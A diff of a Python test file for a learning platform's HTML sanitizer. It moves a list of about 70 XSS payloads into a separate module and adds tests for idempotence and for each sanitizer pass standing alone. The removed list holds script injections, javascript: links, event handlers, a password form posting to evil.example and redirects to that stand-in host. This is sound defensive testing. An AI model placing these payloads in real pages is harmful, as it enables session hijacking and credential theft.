@@ -3,86 +3,13 @@
 import re
 
 import bleach
-import pytest
 
 from lms.courses.lesson import read_lesson
 from lms.courses.markup import render
 from lms.courses.safe_html import sanitize
+from tests.payloads import PAYLOADS
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=`x`onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<math href='javascript:alert(1)'>x</math>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="javascript:123">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="java&#x0A;script:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
-    '<a href="\x01javascript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="//evil.example">x</a>',
-    '<a href="file:///etc/passwd">x</a>',
-    '<a href="blob:https://evil.example/1">x</a>',
-    '<a href="https://a.example" onclick="alert(1)">x</a>',
-    '<a href="https://a.example" target="_blank" style="position:fixed;inset:0">x</a>',
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<p onmouseover="alert(1)">x</p>',
-    "<p/onclick=alert(1)>x",
-    '<div class="top" id="noi-dung">x</div>',
-    '<p id="csrf_token">x</p>',
-    "<style>@import 'https://evil.example/x.css'</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<iframe src="https://evil.example"></iframe>',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    '<object data="https://evil.example/x.swf"></object>',
-    '<embed src="https://evil.example/x.swf">',
-    '<form action="https://evil.example"><input name="password"><button>Gửi</button></form>',
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<img src=//evil.example/tep/x.png>",
-    '<img src="/tep/../../dang-xuat">',
-    '<picture><source srcset="https://evil.example/a.webp 360w"></picture>',
-    "<video src=/hoc poster=https://evil.example/p.png autoplay></video>",
-    "<audio src=data:audio/wav;base64,AAAA onplay=alert(1) autoplay></audio>",
-    "<track src=https://evil.example/a.vtt kind=metadata>",
-    "<img src=x srcset='https://evil.example/b.png 2x'>",
-    "<svg><image href=https://evil.example/c.png></svg>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<template><script>alert(1)</script></template>",
-    "<textarea><img src=x onerror=alert(1)></textarea>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<a href='https://a.example\" onmouseover=\"alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](javascript:123)",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](<javascript:alert(1)>)",
-    '[x](https://a.example "t\\" onclick=\\"alert(1)")',
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![x](https://evil.example/pixel.png)",
-    "# <img src=x onerror=alert(1)>",
-    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
-    "`<script>alert(1)</script>`",
-]
+CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
 TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w:-]*)([^>]*)>")
 ATTRIBUTE = re.compile(r"""([\w:-]+)\s*=\s*("[^"]*"|'[^']*'|\S+)""")
 HARMLESS = {
@@ -120,18 +47,44 @@ def dangers(html: str) -> list[str]:
     return found
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_payload_leaves_anything_that_acts(payload):
-    assert dangers(sanitize(payload)) == []
-    assert dangers(sanitize(f"<p>trước {payload} sau</p>")) == []
+def test_no_payload_leaves_anything_that_acts():
+    found = {payload: dangers(sanitize(payload)) for payload in PAYLOADS}
+    assert {payload: what for payload, what in found.items() if what} == {}
+    found = {payload: dangers(sanitize(f"<p>trước {payload} sau</p>")) for payload in PAYLOADS}
+    assert {payload: what for payload, what in found.items() if what} == {}
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_no_payload_comes_through_a_lesson(payload):
-    text = f"---\ntitle: Bài\nminutes: 5\n---\n\n{payload}\n\n::: rule {payload.splitlines()[0]}\n{payload}\n:::\n"
-    body = render(read_lesson(text, "01-bai.md"), "01-bai.md", {}).body
-    assert body
-    assert dangers("".join(block["html"] for block in body)) == []
+def test_cleaning_what_was_cleaned_changes_nothing():
+    """What a second reader makes of the HTML is what the first made of it: mutation finds no room between them."""
+    for payload in PAYLOADS:
+        once = sanitize(payload)
+        assert sanitize(once) == CONTROL.sub("?", once), payload
+
+
+def test_the_last_pass_alone_holds_every_payload(monkeypatch):
+    """nh3 does not lean on bleach."""
+    monkeypatch.setattr("lms.courses.safe_html.bleach.clean", lambda html, **_: html)
+    found = {payload: dangers(sanitize(payload)) for payload in PAYLOADS}
+    assert {payload: what for payload, what in found.items() if what} == {}
+
+
+def test_the_first_pass_alone_holds_every_payload(monkeypatch):
+    """Nor bleach on nh3: our own pattern of addresses knows what its protocol check does not."""
+    monkeypatch.setattr("lms.courses.safe_html.nh3.clean", lambda html, **_: html)
+    found = {payload: dangers(sanitize(payload)) for payload in PAYLOADS}
+    assert {payload: what for payload, what in found.items() if what} == {}
+
+
+def test_digits_read_as_a_port_make_no_address_live():
+    for address in ("javascript:123", "javascript:80", "JAVASCRIPT:1"):
+        assert "href" not in sanitize(f'<a href="{address}">x</a>')
+
+
+def test_no_payload_comes_through_a_lesson():
+    for payload in PAYLOADS:
+        text = f"---\ntitle: Bài\nminutes: 5\n---\n\n{payload}\n\n::: rule {payload.splitlines()[0]}\n{payload}\n:::\n"
+        body = render(read_lesson(text, "01-bai.md"), "01-bai.md", {}).body
+        assert dangers("".join(block.get("html", "") for block in body)) == [], payload
 
 
 def test_the_danger_check_sees_what_bleach_alone_lets_through():
